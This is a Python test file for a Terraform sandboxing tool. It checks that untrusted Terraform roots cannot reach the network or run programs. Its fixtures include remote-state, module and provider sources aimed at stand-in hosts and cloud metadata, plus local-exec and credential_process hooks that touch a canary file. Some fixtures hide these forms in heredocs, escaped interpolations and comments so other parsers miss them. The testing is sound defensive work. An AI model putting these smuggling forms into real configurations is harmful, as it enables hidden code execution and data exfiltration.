"""Nothing that a stranger's root asks for leaves the machine or runs, with real Terraform.

The cage sees every attempt. Each form is tried with Terraform's own network namespace, and without it: then
the environment and the refusals hold alone. Credentials are in terraform/test_no_credentials.py.
"""

import json
import platform
from pathlib import Path

import pytest

from .settings import TOGETHER
from .test_no_aws import REPOSITORY, ROOT, VARIABLES, reached, run

REMOTE = """
data "terraform_remote_state" "x" {{
  backend = "http"
  config  = {{ address = "http://{}:8080/state", retry_max = 0 }}
}}
"""
PROVIDER = 'terraform {{\n  required_providers {{\n    x = {{ source = "{}/acme/x" }}\n  }}\n}}\n'
ASSERT = 'assert {{\n  condition     = data.terraform_remote_state.x != null\n  error_message = "No."\n}}\n'
MODULE = 'module "x" {{\n  source = "%s"\n}}\n'
FORMS = {
    "198.51.100.1": ("main.tf", REMOTE),
    "198.51.100.2": ("main.tf", MODULE % "git::https://{}/x.git"),
    "198.51.100.3": ("main.tf", MODULE % "http://{}/x.zip"),
    "modules.example.com": ("main.tf", MODULE % "{}/acme/x/aws"),
    "providers.example.com": ("main.tf", PROVIDER),
    "198.51.100.5": ("main.tf", f'check "x" {{{{\n{REMOTE}{ASSERT}}}}}\n'),
    "198.51.100.6": ("main.tf", MODULE % "git::ssh://{}/x.git"),
    "s3.eu-west-1.amazonaws.com": (
        "main.tf",
        MODULE % "s3::https://s3-eu-west-1.amazonaws.com/bucket/x.zip",
    ),
    "metadata.google.internal": (
        "main.tf",
        MODULE % "gcs::https://www.googleapis.com/storage/v1/bucket/x.zip",
    ),
    "198.51.100.7": (
        "main.tf",
        'data "terraform_remote_state" "x" {{\n  backend = "pg"\n'
        '  config = {{ conn_str = "postgres://a:b@{}:5432/x?connect_timeout=1" }}\n}}\n',
    ),
}
"""What asks for an address: its file and its text."""
_HEREDOC = "locals {{\n  a = <<EOT\nEOT%s\n}}\n%%s\nlocals {{\n  b = <<EOT\nEOT\n}}\n"
DISGUISES = {
    "plain": "%s",
    "heredoc with a space": _HEREDOC % " ",
    "heredoc with a tab": _HEREDOC % "\t",
    "escaped interpolation": 'locals {{\n  a = "$${{"\n}}\n%s\nlocals {{\n  b = "}}"\n}}\n',
    "escaped directive": 'locals {{\n  a = "%%%%{{"\n}}\n%s\nlocals {{\n  b = "}}"\n}}\n',
    "comment": "/* \n*/%s",
}
"""What hides a form from another parser than Terraform's."""
_EACH = """
import sys
from scaleproof.errors import ScaleproofError
from scaleproof.providers.session import StandIns
from scaleproof.terraform.root import Root
word, command, *roots = sys.argv[1:]
Root.own_namespace = word == "namespace"
with StandIns() as standins:
    for directory in roots:
        try:
            with Root(directory, standins=standins, allow_network=word == "allowed") as root:
                getattr(root, command)()
                print(directory, "has run")
        except ScaleproofError as error:
            print(directory, error.exit_code.value, error)
"""


def try_each(caged, users, tmp_path, word, *roots, command="plan"):
    """What a command says of each root, and what it tried to reach."""
    ran = run(caged, "-c", _EACH, word, command, *map(str, roots), env=users | {"TF_REGISTRY_DISCOVERY_RETRY": "0"})
    assert ran.returncode == 0, ran.stderr
    return ran.stdout, reached(tmp_path)


def written(tmp_path, disguise):
    roots = []
    for place, (file, text) in FORMS.items():
        root = tmp_path / disguise / place
        root.mkdir(parents=True)
        (root / "main.tf").touch()
        (root / file).write_text((DISGUISES[disguise] % text).format(place))
        roots.append(root)
    return roots


@pytest.mark.nightly
def test_the_forms_do_reach_what_they_name(caged, users, tmp_path):
    said, seen = try_each(caged, users, tmp_path, "allowed", *written(tmp_path, "plain"))
    # Google's library asks for the name and the address of its metadata service at a time; one may come late.
    places = "\n".join(seen).replace("169.254.169.254", "metadata.google.internal")
    assert {place for place in FORMS if place in places} == set(FORMS), said


@pytest.mark.parametrize("word", ["namespace", "no namespace"])
@pytest.mark.parametrize(
    "disguises",
    [
        pytest.param(("plain",), id="plain"),
        pytest.param(tuple(DISGUISES)[1:], id="others", marks=pytest.mark.nightly),
    ],
)
def test_without_allow_network_they_reach_nothing(caged, users, tmp_path, word, disguises):
    roots = [root for disguise in disguises for root in written(tmp_path, disguise)]
    said, seen = try_each(caged, users, tmp_path, word, *roots)
    assert seen == []
    assert "has run" not in said
    assert said.count("with --allow-network (in pytest: --scaleproof-allow-network)") == len(roots)


@pytest.mark.nightly
@pytest.mark.parametrize("word", ["namespace", "no namespace"])
def test_no_override_file_brings_its_backend(caged, users, tmp_path, word):
    text = 'terraform {\n  backend "http" {\n    address = "http://198.51.100.4:8080/state"\n  }\n}\n'
    roots = [tmp_path / name for name in ("main.tf", "zzz_override.tf", "\u00e9_override.tf")]
    for root in roots:
        root.mkdir()
        (root / "a.tf").touch()
        (root / root.name).write_text(text)
    said, seen = try_each(caged, users, tmp_path, word, *roots)
    assert said.count("has run") == 2
    assert "\u00e9_override.tf could name another backend, as Terraform reads it last. Rename it" in said
    assert seen == []


@pytest.mark.parametrize("network", [True, False])
def test_the_namespace_alone_holds(caged, users, tmp_path, network):
    """With the environment of a user who allows the network."""
    script = (
        "import sys; from pathlib import Path\n"
        "from scaleproof.terraform import executable\n"
        "from scaleproof.terraform.runner import CommandFailed, Runner\n"
        "program = executable.find()\n"
        "variables = program.variables(reattach='{}', allow_network=True)\n"
        f"runner = Runner(program, Path(sys.argv[1]), variables, network={network})\n"
        "try:\n    runner.init(); runner.execute_command('plan')\nexcept CommandFailed: pass\n"
    )
    (tmp_path / "root").mkdir()
    (tmp_path / "root/main.tf").write_text(REMOTE.format("198.51.100.1"))
    assert run(caged, "-c", script, str(tmp_path / "root"), env=users).returncode == 0
    assert bool(reached(tmp_path)) == network


LOCAL_EXEC = """
resource "terraform_data" "x" {{
  provisioner "local-exec" {{
    command = "touch '{canary}'"
  }}
}}
"""
REMOVED = """
removed {{
  from = terraform_data.x
  lifecycle {{
    destroy = true
  }}
  provisioner "local-exec" {{
    when    = destroy
    command = "touch '{canary}'"
  }}
}}
"""
S3 = """
data "terraform_remote_state" "x" {{
  backend = "s3"
  config = {{
    bucket = "b", key = "k", region = "us-east-1", profile = "default"
    shared_config_files = ["{root}/config"], endpoints = {{ s3 = "http://127.0.0.1:1" }}
    skip_credentials_validation = true, skip_requesting_account_id = true, max_retries = 0
  }}
}}
"""
PLUGIN = """
terraform {{
  required_providers {{
    x = {{ source = "acme/x" }}
  }}
}}
data "x_y" "x" {{}}
"""
PROVISIONER = 'resource "terraform_data" "x" {{\n  provisioner "x" {{}}\n}}\n'
_SYSTEM = f"linux_{ {'x86_64': 'amd64', 'aarch64': 'arm64'}.get(platform.machine(), platform.machine()) }"
_PLUGIN_DIRECTORY = "registry.terraform.io/acme/x/1.0.0"
PROGRAMS = {
    "local-exec": ("apply", LOCAL_EXEC, ""),
    **{
        f"local-exec behind a {name}": ("apply", DISGUISES[name] % LOCAL_EXEC, "")
        for name in ("heredoc with a space", "escaped interpolation")
    },
    "local-exec of a removed block": ("apply", REMOVED, ""),
    "credential_process of a remote state": ("plan", S3, ""),
    "a provider of the root": (
        "plan",
        PLUGIN,
        f"terraform.d/plugins/{_PLUGIN_DIRECTORY}/{_SYSTEM}/terraform-provider-x_v1.0.0",
    ),
    "a provisioner of the root": ("plan", PROVISIONER, "terraform-provisioner-x_v1.0.0"),
    "a provisioner of the root's plugins": (
        "plan",
        PROVISIONER,
        f"terraform.d/plugins/{_SYSTEM}/terraform-provisioner-x_v1.0.0",
    ),
}
"""What runs a program: the command, the text, and where in the root the program is."""


_PROGRAMS = """
import sys
from pathlib import Path
from scaleproof.errors import ScaleproofError
from scaleproof.providers.session import StandIns
from scaleproof.terraform.root import Root
word, *roots = sys.argv[1:]
Root.own_namespace = word == "namespace"
with StandIns() as standins:
    for directory in map(Path, roots):
        main, (command, text) = directory / "main.tf", (directory / "command").read_text().split(" ", 1)
        try:
            with Root(directory, standins=standins, allow_network=word == "allowed") as root:
                if "removed {" in text:  # a resource of the state
                    main.write_text('resource "terraform_data" "x" {}')
                    root.apply()
                main.write_text(text)
                getattr(root, command)()
                print(directory.name, "has run")
        except ScaleproofError as error:
            print(directory, error)
"""


def programs_that_run(caged, users, tmp_path, word):
    """The names of the programs that have run, of all."""
    roots = []
    for name, (command, text, place) in PROGRAMS.items():
        root = tmp_path / name.replace(" ", "-") / "root"
        file = root / (place or "program")
        file.parent.mkdir(parents=True)
        canary = root.parent / "ran"
        file.write_text(f"#!/bin/sh\ntouch '{canary}'\nexit 1\n")
        file.chmod(0o755)
        (root / "config").write_text(f"[default]\ncredential_process = {file}\n")
        (root / "main.tf").touch()
        filled = text.format(canary=canary, root=root, program=file)
        (root / "command").write_text(f"{command} {filled}")
        roots.append(root)
    ran = run(caged, "-c", _PROGRAMS, word, *map(str, roots), env=users)
    assert ran.returncode == 0, ran.stderr
    assert word == "allowed" or "has run" not in ran.stdout
    print(ran.stdout)
    return {name for name, root in zip(PROGRAMS, roots, strict=True) if (root.parent / "ran").exists()}


@pytest.mark.parametrize("word", ["namespace", "no namespace"])
def test_no_program_runs(caged, users, tmp_path, word):
    assert programs_that_run(caged, users, tmp_path, word) == set()
    assert reached(tmp_path) == []


@pytest.mark.nightly
def test_programs_run_if_they_may(caged, users, tmp_path):
    """But for plugins in the root, which the working directory never has."""
    plugins = {name for name, (_, _, place) in PROGRAMS.items() if place}
    assert programs_that_run(caged, users, tmp_path, "allowed") == PROGRAMS.keys() - plugins


TESTS = ("x.tftest.hcl", "tests/x.tftest.hcl", "x.tftest.json", "x.tofutest.hcl", "x.tfquery.hcl")


@pytest.mark.nightly
@pytest.mark.parametrize("word", ["namespace", "no namespace"])
def test_files_of_tests_and_queries_bring_nothing(caged, users, tmp_path, word):
    source = "http://198.51.100.8/x.zip"
    document = {"run": {"x": {"command": "plan", "module": {"source": source}}}}
    text = f'run "x" {{\n  command = plan\n  module {{\n    source = "{source}"\n  }}\n}}\n'
    roots = [tmp_path / str(place) for place, _ in enumerate(TESTS)]
    for root, file in zip(roots, TESTS, strict=True):
        (root / file).parent.mkdir(parents=True)
        (root / "main.tf").write_text('output "x" {\n  value = 1\n}\n')
        (root / file).write_text(json.dumps(document) if file.endswith("json") else text)
    said, seen = try_each(caged, users, tmp_path, word, *roots)
    assert said.count("has run") == len(TESTS)
    assert seen == []


@pytest.mark.nightly
@pytest.mark.parametrize("word", ["namespace", "no namespace"])
def test_an_override_that_terraform_does_not_read_hides_nothing(caged, users, tmp_path, word):
    module = 'module "x" {{\n  source = "{}"\n}}\n'
    roots = [tmp_path / name for name in ("override.tofu", "x_override.tofu")]
    for root in roots:
        (root / "m").mkdir(parents=True)
        (root / "m" / "main.tf").touch()
        (root / "main.tf").write_text(module.format("http://198.51.100.9/x.zip"))
        (root / root.name).write_text(module.format("./m"))
    said, seen = try_each(caged, users, tmp_path, word, *roots)
    assert said.count('code from "http://198.51.100.9/x.zip"') == len(roots)
    assert seen == []


_BOTH = """
import json, subprocess, sys
for words in json.loads(sys.argv[1]):
    subprocess.run([sys.executable, "-m", *words], check=True)
"""
_TESTS = """
def test_a_plan(plan):
    assert plan({root!r}, **{variables!r}).changes
"""


@pytest.mark.nightly
def test_a_plan_and_a_test_of_one(caged, users, tmp_path):
    """Of a root with a backend, by a user with all settings for AWS."""
    root = tmp_path / "root"
    root.mkdir()
    (root / "main.tf").write_text((REPOSITORY / ROOT / "main.tf").read_text())
    (root / "backend.tf").write_text(
        'terraform {\n  backend "s3" {\n    bucket  = "states"\n    key     = "speech"\n'
        '    region  = "eu-west-1"\n    profile = "work"\n  }\n}\n'
    )
    home = Path(users["HOME"])
    (home / ".netrc").write_text("machine 198.51.100.7 login me password secret\n")
    (home / ".aws/config").write_text(f"[profile work]\ncredential_process = touch {home / 'ran'}\n")
    variables = dict(value.split("=", 1) for value in VARIABLES[1::2])
    test = tmp_path / "test_root.py"
    test.write_text(_TESTS.format(root=str(root), variables=variables))
    words = [
        ["scaleproof", "plan", str(root), *VARIABLES],
        ["pytest", "-q", "-p", "no:cacheprovider", "--rootdir", str(tmp_path), "-c", "/dev/null", str(test)],
    ]
    ran = run(caged, "-c", _BOTH, json.dumps(words), env=users | TOGETHER)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert "1 passed" in ran.stdout
    assert reached(tmp_path) == []
    assert not (home / "ran").exists()
